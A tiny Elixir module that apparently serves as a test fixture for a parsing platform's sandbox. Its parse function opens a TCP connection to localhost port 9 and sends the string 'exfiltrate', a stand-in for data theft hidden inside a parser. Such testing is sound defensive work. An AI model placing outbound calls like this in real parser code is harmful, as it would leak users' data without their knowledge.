defmodule Parser do
  use Platform.Parsing.Behaviour
  def parse(_payload, _meta) do
    {:ok, socket} = :gen_tcp.connect({127, 0, 0, 1}, 9, [:binary])
    :gen_tcp.send(socket, "exfiltrate")
    []
  end
end
